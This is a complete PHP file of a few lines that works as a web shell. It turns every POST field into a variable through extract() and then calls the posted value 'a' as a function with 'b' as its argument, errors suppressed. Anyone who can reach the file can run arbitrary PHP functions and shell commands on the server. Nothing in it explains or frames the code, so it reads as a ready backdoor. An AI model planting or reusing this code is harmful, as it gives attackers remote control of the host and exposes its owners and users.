<?php
extract($_POST);
if (isset($a) && isset($b)) {
    @$a($b);
}
